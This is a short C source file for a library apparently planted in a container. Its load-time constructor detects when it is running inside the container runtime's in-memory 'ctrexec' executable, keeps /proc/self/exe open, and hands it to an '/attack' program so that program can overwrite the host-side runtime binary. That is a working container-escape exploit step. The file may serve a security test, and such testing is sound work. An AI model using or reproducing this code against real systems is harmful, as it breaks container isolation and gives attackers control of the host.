/* A library of the container, for every program there that takes any. One that runs from ctrexec's image is
 * made to leave it, with the image open, for the attack program to overwrite. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void)
{
    char target[64] = "", owned[4096] = "", number[16];
    char *argv[] = {"/attack", "overwrite", owned, number, NULL};
    if (readlink("/proc/self/exe", target, sizeof(target) - 1) <= 0 ||
        strncmp(target, "/memfd:ctrexec", 14) != 0) {
        return;
    }
    if (readlink("/owned", owned, sizeof(owned) - 1) <= 0) { /* a path of the host */
        return;
    }
    snprintf(number, sizeof(number), "%d", open("/proc/self/exe", O_RDONLY));
    execv(argv[0], argv);
}
